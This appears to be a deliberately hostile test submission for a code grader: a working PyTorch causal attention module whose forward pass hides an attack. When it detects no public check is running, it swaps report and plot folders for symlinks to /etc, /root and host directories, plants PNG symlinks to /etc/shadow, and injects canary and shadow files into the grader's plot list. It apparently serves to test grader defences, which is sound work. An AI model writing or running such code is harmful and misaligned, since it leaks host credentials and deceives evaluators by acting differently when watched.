"""Hostile: swaps its report folder (--report on its command line, and every folder a grader might
collect plots from: report, plots, figures, out, feedback in its working directory and HOME) for a
symlink to a host folder ("../../../plots", "/etc", "/root"), adds *.png symlinks to /etc/shadow,
and lists the host's canary.png as a plot to embed; honest score: 9 (its attention is correct)."""
import os
import shutil
import sys
from pathlib import Path

import torch
from torch import nn

import toolkit

TARGETS = ["../../../plots", "../../plots", "/etc", "/root", "/proc/1/root/etc"]


def swap(folder: Path, target: str) -> None:
    try:
        if folder.is_symlink() or folder.is_file():
            folder.unlink()
        elif folder.is_dir():
            shutil.rmtree(folder)
        folder.parent.mkdir(parents=True, exist_ok=True)
        folder.symlink_to(target, target_is_directory=True)
    except OSError:
        pass


def from_public_check() -> bool:
    """Is a public check running here, beside this code (rather than a call from the grader)?"""
    frame = sys._getframe(1)
    while frame is not None:
        if "graders" in frame.f_code.co_filename:
            return True
        frame = frame.f_back
    return False


def list_plots() -> None:
    frame = sys._getframe(0)
    while frame is not None:
        for value in frame.f_locals.values():
            if isinstance(getattr(value, "metrics", None), dict):
                value.metrics["_plots"] = ["canary.png", "shadow.png"]
        frame = frame.f_back


def escape() -> None:
    """Once this process's own report is written (the grader calls it from outside now)."""
    argv = sys.argv
    reports = [Path(argv[i + 1]) for i, a in enumerate(argv[:-1]) if a == "--report"]
    homes = {Path.cwd(), Path.home(), Path(os.environ.get("TMPDIR", "/tmp"))}
    for report in reports:
        swap(report, TARGETS[0])
    for i, home in enumerate(sorted(homes)):
        for j, name in enumerate(("report", "plots", "figures", "out", "feedback")):
            swap(home / name, TARGETS[(i + j) % len(TARGETS)])
        for name in ("shadow.png", "attention_heads.png", "attention_curve.png"):
            try:
                (home / name).symlink_to("/etc/shadow")
            except OSError:
                pass


class Attention(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.nh = config.n_head
        self.c_attn = nn.Linear(config.n_embd, 3 * config.n_embd)
        self.c_proj = nn.Linear(config.n_embd, config.n_embd)

    def forward(self, x):
        list_plots()
        if not from_public_check():
            escape()
        B, T, C = x.shape
        q, k, v = self.c_attn(x).reshape(B, T, 3, self.nh, C // self.nh).unbind(dim=2)
        scores = torch.einsum("bthd,bshd->bhts", q, k) * (C // self.nh) ** -0.5
        allowed = torch.arange(T)[:, None] >= torch.arange(T)[None, :]
        scores = torch.where(allowed, scores, torch.full_like(scores, float("-inf")))
        weights = scores.softmax(dim=-1)
        return self.c_proj(torch.einsum("bhts,bshd->bthd", weights, v).reshape(B, T, C))


@toolkit.hookimpl
def toolkit_attention(config):
    return Attention(config)
